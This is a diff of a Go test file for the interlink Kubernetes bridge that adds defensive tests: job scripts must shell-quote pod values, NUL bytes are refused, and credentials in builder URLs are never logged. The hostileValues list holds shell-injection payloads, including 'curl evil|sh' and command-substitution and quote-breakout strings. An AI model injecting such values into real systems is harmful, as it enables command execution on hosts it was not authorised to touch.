@@ -3,11 +3,14 @@ package functions
 import (
 	"context"
 	"encoding/json"
+	"fmt"
 	"io"
 	"log/slog"
 	"net/http"
 	"net/http/httptest"
 	"os"
+	"os/exec"
+	"path/filepath"
 	"slices"
 	"strings"
 	"sync"
@@ -16,7 +19,9 @@ import (
 	"time"
 
 	"github.com/google/go-cmp/cmp"
+	"github.com/google/uuid"
 	corev1 "k8s.io/api/core/v1"
+	"k8s.io/apimachinery/pkg/types"
 
 	"github.com/seed-3f807049/interlink/functions/api"
 	"github.com/seed-3f807049/interlink/observability/config"
@@ -108,7 +113,14 @@ func TestOriginalInterlinkConfigFiles(t *testing.T) {
 					t.Errorf("jobConfig sent to the builder:\n got %s\nwant %s", raw, want)
 				}
 			}},
-		{file: "InterLinkConfig-http-tls.yaml", env: insecure, refused: []string{"TLS.Enabled with InterlinkAddress http://0.0.0.0", "https://"}},
+		// interlink serves TLS whatever the scheme (the original would serve
+		// plain HTTP here).
+		{file: "InterLinkConfig-http-tls.yaml", env: insecure, check: func(t *testing.T, cfg Config, _ []string) {
+			_, srv, err := FromConfig(cfg, slog.New(slog.DiscardHandler), nil)
+			if err != nil || srv.Listen != "0.0.0.0:3000" || srv.CertFile != "/etc/interlink/tls/tls.crt" || srv.KeyFile != "/etc/interlink/tls/tls.key" {
+				t.Errorf("server %+v (%v), want TLS on 0.0.0.0:3000", srv, err)
+			}
+		}},
 		{file: "InterLinkConfig-https-no-tls.yaml", env: insecure, refused: []string{"InterlinkAddress https://0.0.0.0 needs TLS.Enabled"}},
 		{file: "InterLinkConfig-bad-schemes.yaml", env: insecure, refused: []string{`InterlinkAddress "tcp://0.0.0.0"`, `sidecar "default"`}},
 	}
@@ -340,19 +352,64 @@ func TestJobScriptTemplate(t *testing.T) {
 # init: 0 ConfigMaps, 0 Secrets
 # main: 0 ConfigMaps, 0 Secrets
 /usr/bin/apptainer exec docker://busybox 'a b' '$(id)'
-# annotation: plain
+printf 'annotation: %s\n' plain
 `
 	if diff := cmp.Diff(want, sc.last(t).JobScript); diff != "" {
 		t.Errorf("jobScript (-want +got):\n%s", diff)
 	}
 }
 
+// hostileValues are pod values that run a command (touch pwned-*) if a job
+// script prints them as shell code.
+var hostileValues = []string{
+	"x\ntouch pwned-newline",
+	"x\ncurl evil|sh",
+	"$(touch pwned-subst)",
+	"`touch pwned-backtick`",
+	"'; touch pwned-squote; '",
+	`"; touch pwned-dquote; "`,
+	`\'; touch pwned-backslash #`,
+	"x; touch pwned-semicolon & touch pwned-amp > pwned-redirect",
+	"{{ .JobScriptBuild.SingularityHub.MasterToken }}",
+	`{{ template "x" }}`,
+	"~ * ? [a] {a,b} #x a=b",
+	"\t\r\a\x1b[31m tab, CR, bell, escape",
+	"",
+}
+
+// runBash runs script with bash in an empty directory and returns its
+// standard output, failing the test if the script wrote any file there.
+func runBash(t *testing.T, script string) string {
+	t.Helper()
+	bash, err := exec.LookPath("bash")
+	if err != nil {
+		t.Skip("no bash:", err)
+	}
+	dir := t.TempDir()
+	cmd := exec.Command(bash, "--norc", "--noprofile", "-s") //nolint:gosec // the test's own script
+	cmd.Dir = dir
+	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "LC_ALL=C", "HOME=" + dir}
+	cmd.Stdin = strings.NewReader(script)
+	var stdout, stderr strings.Builder
+	cmd.Stdout, cmd.Stderr = &stdout, &stderr
+	if err := cmd.Run(); err != nil {
+		t.Errorf("bash: %v\n%s\nscript:\n%s", err, stderr.String(), script)
+	}
+	if files, _ := os.ReadDir(dir); len(files) > 0 {
+		t.Errorf("the job script ran a pod's value: it wrote %v\nscript:\n%s", files, script)
+	}
+	return stdout.String()
+}
+
 // TestJobScriptTemplateKeepsPodValuesLiteral: a pod value that looks like
-// template code is printed as it is, never executed.
+// template or shell code is printed as it is, never executed, by the
+// template or by bash running testdata/original/job.sh.tmpl, whose
+// annotation line has no shellquote: interlink adds it.
 func TestJobScriptTemplateKeepsPodValuesLiteral(t *testing.T) {
 	cfg := DefaultConfig()
 	cfg.JobScriptTemplate = "testdata/original/job.sh.tmpl"
 	cfg.JobScriptBuildConfig.SingularityHub.MasterToken = "secret-token"
+	cfg.JobScriptBuildConfig.ApptainerOptions.Executable = "true" // runs nothing
 	url, sc := scriptEnv(t, cfg)
 	if code, body := do(t, http.MethodPost, url+api.PathCreate, api.PodCreateRequests{Pod: hostilePod()}, false); code != 200 {
 		t.Fatalf("create: %d %s", code, body)
@@ -363,7 +420,7 @@ func TestJobScriptTemplateKeepsPodValuesLiteral(t *testing.T) {
 		`'{{ template "x" }}'`,
 		`'{{ printf "%s" .Pod.Name }}'`,
 		`'$(id) {{/* */}}'`,
-		`# annotation: {{ .JobScriptBuild.SingularityHub.MasterToken }}`,
+		`printf 'annotation: %s\n' '{{ .JobScriptBuild.SingularityHub.MasterToken }}'`,
 	} {
 		if !strings.Contains(got, literal) {
 			t.Errorf("jobScript lost the literal %s:\n%s", literal, got)
@@ -371,6 +428,91 @@ func TestJobScriptTemplateKeepsPodValuesLiteral(t *testing.T) {
 	}
 	if strings.Contains(got, "secret-token") || strings.Count(got, "3f8a1b2c") != 1 {
 		t.Errorf("a pod value was executed as template code:\n%s", got)
+	}
+	for i, v := range hostileValues {
+		pod := hostilePod()
+		pod.Name = fmt.Sprintf("hostile-%d", i)
+		pod.UID = types.UID(uuid.NewString())
+		pod.Annotations["note"] = v
+		if code, body := do(t, http.MethodPost, url+api.PathCreate, api.PodCreateRequests{Pod: pod}, false); code != 200 {
+			t.Fatalf("create with note %q: %d %s", v, code, body)
+		}
+		if out := runBash(t, sc.last(t).JobScript); out != "annotation: "+v+"\n" {
+			t.Errorf("note %q: bash printed %q", v, out)
+		}
+	}
+}
+
+// TestJobScriptTemplateQuotesEveryAction: every action that prints is
+// shell-quoted, in if/else, range, with, define/template and block bodies,
+// through variables and pipelines; an action already ending in shellquote
+// is not quoted twice; raw prints the operator's text as it is. Bash prints
+// each value back byte for byte.
+func TestJobScriptTemplateQuotesEveryAction(t *testing.T) {
+	tmpl := `{{ define "out" }}printf '%s\0' {{ . }}
+{{ end -}}
+{{ $n := index .Pod.Annotations "note" -}}
+printf '%s\0' {{ $n }}
+{{ if eq $n "never" }}{{ else }}printf '%s\0' {{ $n }}
+{{ end -}}
+{{ if $n }}printf '%s\0' {{ $n }}
+{{ end -}}
+{{ with .Pod.Annotations }}printf '%s\0' {{ .note }}
+{{ end -}}
+{{ range .Pod.Spec.Containers }}{{ range .Args }}printf '%s\0' {{ . }}
+{{ end }}{{ end -}}
+{{ range $i, $a := .Pod.Spec.Containers }}printf '%s\0' {{ printf "%s" (index $a.Args 0) }}
+{{ else }}never
+{{ end -}}
+{{ template "out" $n }}
+{{- block "blk" $n }}printf '%s\0' {{ . }}
+{{ end -}}
+printf '%s\0' {{ $n | shellquote }}
+printf '%s\0' {{ shellquote $n }}
+printf '%s\0' {{ len .Pod.Spec.Containers }}
+{{ raw "printf '%s\\0' \"$((6*7))\"" }}
+`
+	path := filepath.Join(t.TempDir(), "job.tmpl")
+	if err := os.WriteFile(path, []byte(tmpl), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	cfg := DefaultConfig()
+	cfg.JobScriptTemplate = path
+	url, sc := scriptEnv(t, cfg)
+	for i, v := range hostileValues {
+		pod := testPod(fmt.Sprintf("every-%d", i), "")
+		pod.Annotations["note"] = v
+		pod.Spec.Containers[0].Args = []string{v, "plain"}
+		if code, body := do(t, http.MethodPost, url+api.PathCreate, api.PodCreateRequests{Pod: pod}, false); code != 200 {
+			t.Fatalf("create with %q: %d %s", v, code, body)
+		}
+		script := sc.last(t).JobScript
+		out := runBash(t, script)
+		want := []string{v, v, v, v, v, "plain", v, v, v, v, v, "1", "42", ""}
+		if v == "" {
+			want = slices.Delete(want, 2, 3) // {{ if $n }} is false
+		}
+		if diff := cmp.Diff(want, strings.Split(out, "\x00")); diff != "" {
+			t.Errorf("value %q: bash printed (-want +got):\n%s\nscript:\n%s", v, diff, script)
+		}
+	}
+}
+
+// TestJobScriptTemplateRefusesNUL: a pod value bash cannot hold (a NUL byte)
+// fails the create with a 400 naming the pod, without repeating the value.
+func TestJobScriptTemplateRefusesNUL(t *testing.T) {
+	cfg := DefaultConfig()
+	cfg.JobScriptTemplate = "testdata/original/job.sh.tmpl"
+	url, sc := scriptEnv(t, cfg)
+	pod := testPod("nul", "")
+	pod.Annotations["note"] = "a\x00secret"
+	code, body := do(t, http.MethodPost, url+api.PathCreate, api.PodCreateRequests{Pod: pod}, false)
+	if code != 400 || !strings.Contains(string(body), "pod default/nul: render JobScriptTemplate") ||
+		!strings.Contains(string(body), "NUL") || strings.Contains(string(body), "secret") {
+		t.Errorf("got %d %s, want 400 naming the pod and NUL, without the value", code, body)
+	}
+	if len(sc.got) != 0 {
+		t.Error("the create reached the sidecar")
 	}
 }
 
@@ -514,16 +656,86 @@ func TestJobScriptBuilder(t *testing.T) {
 		t.Errorf("builder calls %d (want 4), redirects followed %d, creates reaching the sidecar %d", calls.Load()-before, redirected.Load(), len(sc.got)-sidecarCreates)
 	}
 
-	// A handler without a job scripter refuses a jobscriptURL too.
-	h, err := New(HandlerConfig{Sidecars: map[string]Sidecar{"default": &scriptCapture{Sim: newSim(t)}}, Default: "default"})
+	// A jobscriptURL's query (a credential, perhaps) is not repeated.
+	code, body := create("http://169.254.169.254/build?token=s3cret#frag")
+	if code != 400 || !strings.Contains(body, `"http://169.254.169.254/build" is not listed`) || strings.Contains(body, "s3cret") || strings.Contains(body, "frag") {
+		t.Errorf("got %d %s, want 400 without the query", code, body)
+	}
+}
+
+// TestJobScriptURLWithoutBuilders: with no JobScriptBuilderURLs, a create
+// naming a jobscriptURL is refused with 400 by the JobScript hook, whether
+// FromConfig set it or New defaulted it: one message, one place.
+func TestJobScriptURLWithoutBuilders(t *testing.T) {
+	cfg, _, err := loadFile(t, "", map[string]string{"INTERLINK_AUTH_INSECURE": "true", "SIDECARURL": "http://127.0.0.1", "SIDECARPORT": "1"})
 	if err != nil {
 		t.Fatal(err)
 	}
-	srv := httptest.NewServer(h)
-	t.Cleanup(srv.Close)
-	code, body := do(t, http.MethodPost, srv.URL+api.PathCreate, api.PodCreateRequests{Pod: testPod("x", ""), JobScriptURL: builder.URL + "/build"}, false)
-	if code != 400 || !strings.Contains(string(body), "calls no job script builder") {
-		t.Errorf("got %d %s", code, body)
+	fromConfig, _, err := FromConfig(cfg, slog.New(slog.DiscardHandler), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	bare, err := New(HandlerConfig{Sidecars: map[string]Sidecar{"default": &scriptCapture{Sim: newSim(t)}}, Default: "default"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var bodies []string
+	for _, h := range []http.Handler{fromConfig, bare} {
+		srv := httptest.NewServer(h)
+		t.Cleanup(srv.Close)
+		pod := testPod("x", "")
+		pod.UID = "3f8a1b2c-0000-4000-8000-000000000002"
+		code, body := do(t, http.MethodPost, srv.URL+api.PathCreate, api.PodCreateRequests{Pod: pod, JobScriptURL: "http://builder/build?token=s3cret"}, false)
+		if code != 400 || !strings.Contains(string(body), "calls no job script builder (its JobScriptBuilderURLs is empty)") || strings.Contains(string(body), "s3cret") {
+			t.Errorf("got %d %s", code, body)
+		}
+		bodies = append(bodies, string(body))
+	}
+	if bodies[0] != bodies[1] {
+		t.Errorf("FromConfig's handler and New's default answer differently:\n%s\n%s", bodies[0], bodies[1])
+	}
+}
+
+// TestJobScriptBuilderURLsWithoutCredentials: a JobScriptBuilderURLs entry
+// with user info, a query or a fragment is refused at start (credentials
+// belong in a header), without repeating the credential; a builder URL is
+// never logged with one.
+func TestJobScriptBuilderURLsWithoutCredentials(t *testing.T) {
+	for _, u := range []string{
+		"http://builder:8080/build?token=s3cret",
+		"http://builder:8080/build?",
+		"http://builder:8080/build#s3cret",
+		"http://builder:8080/build#",
+		"http://user:s3cret@builder:8080/build",
+		"ftp://builder/build",
+		"/build",
+	} {
+		t.Run(u, func(t *testing.T) {
+			_, _, err := loadFile(t, "", map[string]string{"INTERLINK_AUTH_INSECURE": "true", "INTERLINK_JOBSCRIPT_BUILDER_URLS": u})
+			if err == nil || !strings.Contains(err.Error(), "JobScriptBuilderURLs") || strings.Contains(err.Error(), "s3cret") {
+				t.Errorf("loaded, or the error repeats the credential: %v", err)
+			}
+			if strings.ContainsAny(u, "?#@") && !strings.Contains(fmt.Sprint(err), "credentials belong in a header") {
+				t.Errorf("error does not say where credentials go: %v", err)
+			}
+			// FromConfig, even with a config not validated, logs no credential.
+			cfg := DefaultConfig()
+			cfg.Auth.Insecure = true
+			cfg.JobScriptBuilderURLs = []string{u}
+			var logs strings.Builder
+			if _, _, err := FromConfig(cfg, slog.New(slog.NewTextHandler(&logs, nil)), nil); err == nil || strings.Contains(err.Error(), "s3cret") {
+				t.Errorf("FromConfig: %v", err)
+			}
+			if strings.Contains(logs.String(), "s3cret") {
+				t.Errorf("logged a credential:\n%s", logs.String())
+			}
+		})
+	}
+	var logs strings.Builder
+	cfg := DefaultConfig()
+	cfg.JobScriptBuilderURLs = []string{"https://builder:8443/build"}
+	if _, _, err := FromConfig(cfg, slog.New(slog.NewTextHandler(&logs, nil)), nil); err != nil || !strings.Contains(logs.String(), "https://builder:8443/build") {
+		t.Errorf("FromConfig: %v, logged:\n%s", err, logs.String())
 	}
 }
 
